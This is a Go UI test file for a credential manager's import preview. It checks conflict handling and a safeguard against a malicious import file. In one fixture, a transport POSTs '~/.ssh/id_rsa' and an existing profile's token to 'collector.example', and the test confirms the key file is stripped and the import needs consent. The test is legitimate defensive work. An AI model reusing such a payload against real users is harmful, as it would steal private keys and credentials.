package ui

import (
	"strings"
	"testing"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/widget"

	"github.com/credworkbench/credworkbench/credentials"
)

// Issue #23.2 in the window: the preview lists the file's transports, and
// one that would send an existing profile's token to the file's host is
// imported only after the check box is ticked, without its bodyFile.
func TestImportPreviewAsksBeforeForeignTransports(t *testing.T) {
	repo := newRepo(t, nil)
	seedNoSecrets(t, repo, credentials.Profile{Name: "a1", Type: credentials.TypeApplication, TokenURL: "https://idp.example.com/token", ClientID: "x"})
	h := newHarness(t, repo, nil)
	data := []byte(`{"format":"credworkbench-profiles","version":1,"profiles":[{"name":"extra","type":"application",` +
		`"tokenUrl":"https://idp.example.com/t","clientId":"c"}],"transports":[{"name":"collect","type":"HTTP","method":"POST",` +
		`"url":"https://collector.example/c","bodyFile":"~/.ssh/id_rsa","authorization":"Credential","profile":"a1"}]}`)
	s := h.wb.screens.previewImport("export.json", data)
	if s == nil {
		t.Fatal("no preview")
	}
	for _, want := range []string{"Transports (1)", "⚠ collect: POST collector.example", `credential "a1" (a profile already here`,
		`bodyFile "~/.ssh/id_rsa" is not imported`} {
		if !strings.Contains(s.body.Text, want) {
			t.Fatalf("preview lacks %q:\n%s", want, s.body.Text)
		}
	}
	var check *widget.Check
	walk(h.win.Canvas().Overlays().Top(), func(o fyne.CanvasObject) {
		if c, ok := o.(*widget.Check); ok && strings.HasPrefix(c.Text, "Import the transports marked ⚠") {
			check = c
		}
	})
	if check == nil || !check.Visible() || check.Checked {
		t.Fatalf("no unticked check box for the transports: %v", check)
	}
	if !s.button("Import").Disabled() {
		t.Fatal("Import is enabled before the transports were accepted")
	}
	test.Tap(check)
	if s.button("Import").Disabled() {
		t.Fatal("Import stays disabled after the check box was ticked")
	}
	h.tap(s.button("Import"))
	got, err := repo.Transports().Get("collect")
	if err != nil {
		t.Fatalf("the accepted transport was not imported: %v (status %q)", err, h.wb.bar.text.Text)
	}
	a1, _ := repo.Get("a1")
	if got.BodyFile != "" || got.ProfileID != a1.ID {
		t.Fatalf("imported %+v", got)
	}
}

// Issue #24.17: one choice for every name already here, besides the
// per-entry ones.
func TestImportConflictsApplyToAll(t *testing.T) {
	repo := newRepo(t, nil)
	app := func(name, client string) credentials.Profile {
		return credentials.Profile{Name: name, Type: credentials.TypeApplication, TokenURL: "https://idp.example.com/token", ClientID: client}
	}
	seedNoSecrets(t, repo, app("Alpha", "alpha-old"), app("Beta", "beta-old"), app("Gamma", "gamma-old"))
	h := newHarness(t, repo, nil)
	data, err := credentials.ExportAll([]credentials.Profile{app("Alpha", "alpha-new"), app("Beta", "beta-new"), app("Gamma", "gamma-new")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := h.wb.screens.previewImport("fleet.json", data)
	var all *widget.Select
	var each []*widget.Select
	walk(h.win.Canvas().Overlays().Top(), func(o fyne.CanvasObject) {
		if sel, ok := o.(*widget.Select); ok {
			if sel.PlaceHolder == "Choose for all…" {
				all = sel
			} else if len(sel.Options) == 3 {
				each = append(each, sel)
			}
		}
	})
	if all == nil || len(each) != 3 {
		t.Fatalf("apply-to-all %v, per-entry selects %d", all, len(each))
	}
	all.SetSelected(conflictAllReplace)
	for _, sel := range each {
		if sel.Selected != conflictReplace {
			t.Fatalf("after %q: %q", conflictAllReplace, sel.Selected)
		}
	}
	if all.Selected != "" {
		t.Errorf("apply-to-all keeps showing %q", all.Selected)
	}
	all.SetSelected(conflictAllRename)
	for _, sel := range each {
		if !strings.HasPrefix(sel.Selected, "Import as ") {
			t.Fatalf("after %q: %q", conflictAllRename, sel.Selected)
		}
	}
	each[0].SetSelected(conflictSkip) // a per-entry choice still counts after "all"
	h.tap(s.button("Import"))
	renamed := 0
	for _, n := range []string{"Alpha 2", "Beta 2", "Gamma 2"} {
		if p, err := repo.Get(n); err == nil && strings.HasSuffix(p.ClientID, "-new") {
			renamed++
		}
	}
	if ps, _ := repo.List(); renamed != 2 || len(ps) != 5 {
		t.Fatalf("renamed %d, %d profiles; want 2 renamed, 5 profiles", renamed, len(ps))
	}
	if st := h.wb.bar.text.Text; !strings.Contains(st, "skipped 1 already here") {
		t.Errorf("status %q", st)
	}
}
